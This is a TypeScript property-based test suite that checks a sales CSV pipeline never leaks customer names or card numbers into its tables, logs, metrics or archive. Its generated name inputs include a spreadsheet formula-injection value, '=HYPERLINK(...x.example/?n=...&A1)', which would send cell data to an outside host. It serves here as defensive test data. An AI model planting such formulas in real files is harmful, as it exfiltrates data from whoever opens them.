import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RawSaleSchema } from '../../contracts/index.js';
import { customerKey } from '../../consumers/sales-transform/customer-key.js';
import { formatSummary } from '../../infra/local/cli/summary.js';
import { ingestFile } from '../../producers/csv-ingest/ingest-file.js';
import { rawSale } from '../helpers/factories.js';
import { startTestStack, type TestStack } from '../helpers/local-stack.js';
import { memoryWriter } from '../helpers/memory-writer.js';
import { captureOutput, findLeaks, loadLambdaPipeline, maskRun, nameForms, parseLogLine, type LambdaPipeline, type RunOutputs, type Secret } from './privacy-harness.js';

// ── Generated customers ─────────────────────────────────────────────────────────

// Invented names (the sample data's are real people's): realistic text for the cases
// where a leak would matter most, with arbitrary Unicode around them.
const FIRST = ['Aoife', 'Bartholomew', 'Chiamaka', 'Dmitri', 'Eleanor', 'Fionnuala', 'Gwendolyn', 'Hiroshi', 'Ingrid', 'Józef', 'Kwabena', 'Léonie'];
const LAST = ['Abernethy', 'Blackwood', 'Castellanos', 'Dunleavy', 'Eriksdottir', 'Featherstonehaugh', 'Giannopoulos', 'Hargreaves', "O'Shaughnessy", 'Ní Bhriain'];

const realisticName = fc
  .tuple(fc.constantFrom(...FIRST), fc.constantFrom(...LAST), fc.integer({ min: 0, max: 99_999 }))
  .map(([first, last, n]) => `${first} ${last} ${n}`);

/** Names as branch files might hold them: realistic, any printable Unicode, any code point, spreadsheet-hostile, and near the 256-character limit. */
const nameArb = fc.oneof(
  { weight: 3, arbitrary: realisticName },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('=HYPERLINK("http://x.example/?n="&A1)', '"Quoted" Name,', 'Line\nBreak', '  Padded   Out  ', '@SUM(1)'), realisticName).map(([odd, name]) => `${odd} ${name}`) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-composite', minLength: 250, maxLength: 262 }) },
);

/** 13 to 19 digits, the lengths card schemes issue. */
const cardDigitsArb = fc
  .tuple(fc.integer({ min: 1, max: 9 }), fc.integer({ min: 12, max: 18 }).chain((length) => fc.array(fc.integer({ min: 0, max: 9 }), { minLength: length, maxLength: length })))
  .map(([first, rest]) => `${first}${rest.join('')}`);

/** How a card number reaches a file: as issued, grouped, or mangled by a spreadsheet. */
const LOSSLESS_FORMS = ['plain', 'spaced', 'dashed', 'pandas-float'] as const;
const LOSSY_FORMS = ['excel-scientific', 'excel-text-formula'] as const;
type CardForm = (typeof LOSSLESS_FORMS)[number] | (typeof LOSSY_FORMS)[number];

function renderCard(digits: string, form: CardForm): string {
  const groups = digits.match(/.{1,4}/g) ?? [digits];
  switch (form) {
    case 'plain':
      return digits;
    case 'spaced':
      return groups.join(' ');
    case 'dashed':
      return groups.join('-');
    case 'pandas-float':
      return `${digits}.0`;
    case 'excel-scientific':
      return `${digits[0]}.${digits.slice(1, 3)}E+${digits.length - 1}`;
    case 'excel-text-formula':
      return `="${digits}"`;
    default: {
      const unhandled: never = form;
      return unhandled;
    }
  }
}

interface Customer {
  readonly name: string;
  readonly card: string;
  readonly form: CardForm;
}

const customerArb: fc.Arbitrary<Customer> = fc.record({ name: nameArb, card: cardDigitsArb, form: fc.constantFrom<CardForm>(...LOSSLESS_FORMS, ...LOSSY_FORMS) });

const BASKETS = [
  { basket: 'Large Latte - 2.45', total: '2.45' },
  { basket: 'Regular Speciality Tea - Camomile - 1.30, Large Latte - 2.45', total: '3.75' },
  { basket: 'Large Flavoured iced latte - Hazelnut - 3.25, Large Flavoured iced latte - Hazelnut - 3.25', total: '6.50' },
];

/** What is wrong with a row, if anything: each fault sends the row's personal data down a rejection path. */
const FAULTS = [null, null, null, 'total', 'date', 'payment', 'columns', 'card-missing'] as const;

interface Row {
  readonly customer: number;
  readonly minute: number;
  readonly basket: number;
  readonly payment: 'CARD' | 'CASH';
  readonly cashWithCard: boolean;
  readonly fault: (typeof FAULTS)[number];
}

const rowArb: fc.Arbitrary<Row> = fc.record({
  customer: fc.nat(),
  // Few minutes, so customers often share one: the case event ids must tell apart.
  minute: fc.integer({ min: 0, max: 3 }),
  basket: fc.nat({ max: BASKETS.length - 1 }),
  payment: fc.constantFrom('CARD' as const, 'CASH' as const),
  cashWithCard: fc.boolean(),
  fault: fc.constantFrom(...FAULTS),
});

interface Upload {
  readonly customers: readonly Customer[];
  readonly rows: readonly Row[];
  readonly header: boolean;
  readonly crlf: boolean;
}

const uploadArb: fc.Arbitrary<Upload> = fc.record({
  customers: fc.array(customerArb, { minLength: 1, maxLength: 4 }),
  rows: fc.array(rowArb, { minLength: 1, maxLength: 8 }),
  header: fc.boolean(),
  crlf: fc.boolean(),
});

const BRANCH = 'Privacy Test';
const quote = (field: string) => `"${field.replace(/"/g, '""')}"`;

/** The upload as a branch CSV; names, baskets and cards quoted, as spreadsheets write text with commas, quotes or line breaks. */
function toCsv(upload: Upload): string {
  const lines = upload.header ? ['date_time,branch,customer_name,basket,total,payment_method,card_number'] : [];
  for (const row of upload.rows) {
    const customer = upload.customers[row.customer % upload.customers.length] as Customer;
    const { basket, total } = BASKETS[row.basket] as (typeof BASKETS)[number];
    const date = row.fault === 'date' ? '31/02/2024' : '13/03/2024';
    const payment = row.fault === 'payment' ? 'VOUCHER' : row.payment;
    const card = row.fault === 'card-missing' ? '' : row.payment === 'CARD' || row.cashWithCard ? renderCard(customer.card, customer.form) : '';
    const fields = [`${date} 09:0${row.minute}`, BRANCH, quote(customer.name), quote(basket), row.fault === 'total' ? '99.99' : total, row.fault === 'card-missing' ? 'CARD' : payment, quote(card)];
    lines.push((row.fault === 'columns' ? fields.slice(0, 6) : fields).join(','));
  }
  return `${lines.join(upload.crlf ? '\r\n' : '\n')}\n`;
}

/**
 * The same upload with no personal data: each name keeps its shape (length, white
 * space, line breaks, control characters) with every other character an `x`, and
 * each card keeps its form and first four digits (which name the card scheme) with
 * zeros after. Whatever the pipeline does with the real upload it must do with this
 * one, except for the keyed hashes.
 */
function shadowOf(upload: Upload): Upload {
  // As many `x` as the character's UTF-8 bytes: the contract's field limits count bytes.
  // U+FFFD stays: it is the mark of bytes that were not text, and a row holding one is
  // rejected as `encoding_invalid` whatever else it holds (classify-record), by rule, not by name.
  const shadowName = (name: string) => name.replace(/[^\s\p{Cc}\uFFFD]/gu, (character) => 'x'.repeat(Buffer.byteLength(character, 'utf8')));
  const shadowCard = (digits: string) => digits.slice(0, 4) + '0'.repeat(digits.length - 4);
  return { ...upload, customers: upload.customers.map((customer) => ({ ...customer, name: shadowName(customer.name), card: shadowCard(customer.card) })) };
}

/** The text that must appear nowhere: every form of each name, and each card's digits and its written form. */
function secretsOf(upload: Upload): Secret[] {
  const used = new Set(upload.rows.map((row) => row.customer % upload.customers.length));
  return [...used].flatMap((index) => {
    const customer = upload.customers[index] as Customer;
    return [
      ...nameForms(customer.name).map((text) => ({ kind: 'name' as const, text })),
      { kind: 'card' as const, text: customer.card },
      { kind: 'card' as const, text: renderCard(customer.card, customer.form) },
    ];
  });
}

/** Where a run's outputs go, by the names the requirement uses. */
function sinksOf(run: RunOutputs): Record<string, unknown> {
  return {
    'warehouse (sales, sale_items, ingest_files)': [run.firehose.sales, run.firehose.sale_items, run.firehose.ingest_files],
    quarantine: run.firehose.quarantine,
    'archive (Firehose S3 backup of every record)': run.firehose,
    logs: run.logs,
    metrics: run.metrics,
    'dead letters': run.deadLetters,
  };
}

// ── The properties ──────────────────────────────────────────────────────────────

const PEPPER = 'privacy-property-pepper';

describe('Privacy: customer names and card numbers never leave the raw stream', () => {
  describe('Through the Lambda handlers (S3 → csv-ingest → Kinesis → sales-transform → Firehose), for generated customers', () => {
    let pipeline: LambdaPipeline;
    beforeAll(async () => {
      pipeline = await loadLambdaPipeline(PEPPER);
    });
    afterAll(() => pipeline?.restore());

    it('writes no name or card number to the warehouse, quarantine, archive, logs, metrics or dead letters, and nothing that depends on them', async () => {
      // Counted across runs, so the property cannot pass by never reaching a sink.
      const reached = { sales: 0, quarantined: 0, logLines: 0, metricDocuments: 0, deadLetters: 0 };

      await fc.assert(
        fc.asyncProperty(uploadArb, fc.integer({ min: 0, max: 5 }), async (upload, outage) => {
          // Prepare: one run in six has Firehose refusing every call, so records become dead letters.
          const firehoseDown = outage === 0;

          // Act
          const real = await pipeline.run(toCsv(upload), { firehoseDown });
          const shadow = await pipeline.run(toCsv(shadowOf(upload)), { firehoseDown });

          // Assess: no trace of the secrets anywhere, and every output the same as without them.
          expect(findLeaks(sinksOf(real), secretsOf(upload), shadow)).toEqual([]);
          expect(maskRun(real)).toEqual(maskRun(shadow));
          reached.sales += real.firehose.sales?.length ?? 0;
          reached.quarantined += real.firehose.quarantine?.length ?? 0;
          reached.logLines += real.logs.length;
          reached.metricDocuments += real.metrics.length;
          reached.deadLetters += real.deadLetters.length;
        }),
        { numRuns: 80 },
      );

      expect(Object.entries(reached).filter(([, count]) => count === 0)).toEqual([]);
    }, 120_000);
  });

  describe('Function: customerKey', () => {
    /** The key the consumer gives a CARD sale's customer: the contract normalises the row, then the key is made. */
    const keyOf = (pepper: string, name: string, card: string) => {
      const sale = RawSaleSchema.parse(rawSale({ customerName: name, cardNumber: card, paymentMethod: 'CARD' }));
      return customerKey(pepper, sale.customerName, sale.cardNumber);
    };
    // Names with a customer in them (not blank), well under the field limit even once decomposed.
    const keyedName = fc.oneof(realisticName, fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 })).filter((name) => name.normalize('NFKC').trim() !== '');
    /** The identity the key is made of, normalised as the contract and customerKey do, in their order. */
    const identity = (name: string) => name.trim().replace(/\s+/g, ' ').normalize('NFKC').trim().replace(/\s+/g, ' ').toLowerCase();
    /** The same person's name as another file may write it. */
    const rewrite = (name: string, how: 'padded' | 'spaced' | 'decomposed' | 'upper') => {
      if (how === 'padded') return `  ${name}\t`;
      if (how === 'spaced') return name.replace(/ /g, '   ');
      if (how === 'decomposed') return name.normalize('NFD');
      const upper = name.toUpperCase();
      // Case folding is not reversible for every script (ß → SS): only a reversible change names the same person.
      return upper.normalize('NFKC').toLowerCase() === name.normalize('NFKC').toLowerCase() ? upper : name;
    };

    it('is the same for the same customer, however the file writes the name and (whole) card number', () => {
      fc.assert(
        fc.property(keyedName, cardDigitsArb, fc.constantFrom(...LOSSLESS_FORMS), fc.constantFrom(...LOSSLESS_FORMS), fc.constantFrom('padded' as const, 'spaced' as const, 'decomposed' as const, 'upper' as const), (name, digits, formA, formB, how) => {
          expect(keyOf(PEPPER, rewrite(name, how), renderCard(digits, formB))).toBe(keyOf(PEPPER, name, renderCard(digits, formA)));
        }),
        { numRuns: 300 },
      );
    });

    it('falls back to the name alone when a spreadsheet has mangled the card number beyond recovery', () => {
      // A documented limit, not a goal: 4.11E+15 cannot be matched to the card it was, so such a
      // file's card customers get the key of their name alone (the same for every file so mangled).
      fc.assert(
        fc.property(keyedName, cardDigitsArb, fc.constantFrom(...LOSSY_FORMS), (name, digits, form) => {
          expect(keyOf(PEPPER, name, renderCard(digits, form))).toBe(customerKey(PEPPER, name.trim().replace(/\s+/g, ' '), null));
          expect(keyOf(PEPPER, name, renderCard(digits, form))).not.toBe(keyOf(PEPPER, name, digits));
        }),
        { numRuns: 100 },
      );
    });

    it('differs with another pepper, and between different customers', () => {
      fc.assert(
        fc.property(keyedName, keyedName, cardDigitsArb, fc.string({ minLength: 1 }), fc.string({ minLength: 1 }), (name, other, digits, pepperA, pepperB) => {
          fc.pre(pepperA !== pepperB);
          expect(keyOf(pepperA, name, digits)).not.toBe(keyOf(pepperB, name, digits));
          if (identity(name) !== identity(other)) expect(keyOf(pepperA, name, digits)).not.toBe(keyOf(pepperA, other, digits));
        }),
        { numRuns: 300 },
      );
    });
  });

  describe('Event ids', () => {
    /** The TransactionRecorded ids of a CSV upload, in row order. */
    const saleIds = async (csv: string, file = 'ids.csv') => {
      const writer = memoryWriter();
      await ingestFile({ file, reader: { open: async () => Readable.from([Buffer.from(csv)]) }, writer, pepper: PEPPER }).catch(() => undefined);
      return writer.events.flatMap((event) => (event.type === 'TransactionRecorded' ? [{ line: event.source.kind === 'file' ? event.source.line : 0, id: event.eventId }] : []));
    };
    const validUpload = uploadArb.map((upload) => ({ ...upload, rows: upload.rows.map((row) => ({ ...row, fault: null })) }));

    it('are the same for the same rows: on a re-upload, and in a re-export with other line endings, a header and mangled card numbers', async () => {
      await fc.assert(
        fc.asyncProperty(validUpload, fc.constantFrom<CardForm>(...LOSSLESS_FORMS, ...LOSSY_FORMS), async (upload, form) => {
          // Prepare: the branch's spreadsheet re-saves the file.
          const reExport: Upload = { ...upload, header: !upload.header, crlf: !upload.crlf, customers: upload.customers.map((customer) => ({ ...customer, form })) };

          // Act
          const original = await saleIds(toCsv(upload));

          // Assess
          expect(await saleIds(toCsv(upload), 'uploaded-again.csv')).toEqual(original);
          expect((await saleIds(toCsv(reExport))).map(({ id }) => id)).toEqual(original.map(({ id }) => id));
        }),
        { numRuns: 100 },
      );
    });

    it('differ for different customers buying the same thing in the same minute, in one file or in two', async () => {
      // A name that is not text once written as UTF-8 (U+FFFD, or a lone surrogate, which becomes one)
      // makes its row `encoding_invalid` by rule: such a customer has no sale to tell apart.
      const isText = (name: string) => !Buffer.from(name, 'utf8').toString('utf8').includes('\uFFFD');
      const distinctNames = fc.uniqueArray(nameArb.filter((name) => !name.includes('\0') && name.length <= 256 && isText(name)), {
        minLength: 2,
        maxLength: 6,
        selector: (name) => name.trim().replace(/\s+/g, ' ').toLowerCase(),
      });
      await fc.assert(
        fc.asyncProperty(distinctNames, cardDigitsArb, async (names, digits) => {
          fc.pre(names.every((name) => name.trim() !== ''));
          // Prepare: the same sale at the same minute, one row per customer.
          const upload: Upload = {
            customers: names.map((name) => ({ name, card: digits, form: 'plain' as const })),
            rows: names.map((_, customer) => ({ customer, minute: 0, basket: 0, payment: 'CARD' as const, cashWithCard: false, fault: null })),
            header: false,
            crlf: false,
          };

          // Act
          const together = await saleIds(toCsv(upload));
          const apart = await Promise.all(names.map((_, index) => saleIds(toCsv({ ...upload, rows: [upload.rows[index] as Row] }), `file-${index}.csv`)));

          // Assess: one sale per customer, each with its own id, and the same id whichever file it came in.
          expect(together).toHaveLength(names.length);
          expect(new Set(together.map(({ id }) => id)).size).toBe(names.length);
          expect(apart.map((ids) => ids[0]?.id)).toEqual(together.map(({ id }) => id));
        }),
        { numRuns: 100 },
      );
    });
  });

  describe('Through the real local stack (kinesalite, consumer, PostgreSQL, archive), once', () => {
    let test: TestStack;
    const stackLog: string[] = [];
    let captured: string[] = [];
    let summary = '';
    let upload: Upload;

    beforeAll(async () => {
      // Prepare: 40 generated customers (a fixed sample, so the run is repeatable), each buying twice, some rows faulty.
      const customers = fc.sample(customerArb.filter((customer) => [...customer.name.trim()].length >= 5), { numRuns: 40, seed: 20_240_313 });
      const faults = fc.sample(fc.constantFrom(...FAULTS), { numRuns: 80, seed: 7 });
      upload = {
        customers,
        rows: faults.map((fault, index) => ({ customer: index % customers.length, minute: index % 10, basket: index % BASKETS.length, payment: index % 3 === 0 ? 'CASH' : 'CARD', cashWithCard: index % 6 === 0, fault })),
        header: true,
        crlf: false,
      };
      test = await startTestStack({ log: (line) => stackLog.push(line) });
      const path = join(test.root, 'privacy_2024-03-13.csv');
      await writeFile(path, toCsv(upload));

      // Act: everything written while the file goes through is kept.
      const output = captureOutput();
      try {
        const run = await test.ingest([path]);
        summary = formatSummary(run, run.summaries[0]?.eventsPublished ?? 0);
        await test.stack.metrics.flush();
      } finally {
        output.restore();
        captured = output.lines();
      }
    }, 120_000);

    afterAll(() => test?.stop());

    it('keeps no name or card number in any table, the metrics, the archive, the logs or the CLI summary', async () => {
      // Every table in the warehouse, including the local metrics table, not only the ones we know of.
      const { rows: tables } = await test.stack.warehouse.pool.query<{ name: string }>("SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1");
      const dump: Record<string, unknown[]> = {};
      for (const { name } of tables) dump[name] = (await test.stack.warehouse.pool.query(`SELECT * FROM "${name}"`)).rows;
      const archiveFiles = await readdir(test.stack.dataDir.archive).catch(() => [] as string[]);
      const archive = await Promise.all(archiveFiles.map(async (file) => (await readFile(join(test.stack.dataDir.archive, file), 'utf8')).split('\n').map(parseLogLine)));

      // Assess: the sinks were reached...
      expect(Object.keys(dump)).toEqual(expect.arrayContaining(['sales', 'sale_items', 'quarantine', 'ingest_files', 'ops_metrics']));
      expect(dump.sales?.length).toBeGreaterThan(0);
      expect(dump.quarantine?.length).toBeGreaterThan(0);
      expect(dump.ops_metrics?.length).toBeGreaterThan(0);
      expect(archive.flat().length).toBeGreaterThan(0);
      // ...and hold no trace of the customers.
      const sinks = {
        ...Object.fromEntries(Object.entries(dump).map(([table, rows]) => [`table ${table}`, rows])),
        archive,
        logs: [...stackLog, ...captured.map(parseLogLine)],
        'CLI summary': summary,
      };
      expect(findLeaks(sinks, secretsOf(upload))).toEqual([]);
      // Card-like digit runs of any kind, not only the generated ones.
      expect(JSON.stringify(dump).match(/(?<![0-9a-f])\d{13,19}(?![0-9a-f])/g) ?? []).toEqual([]);
    });
  });
});
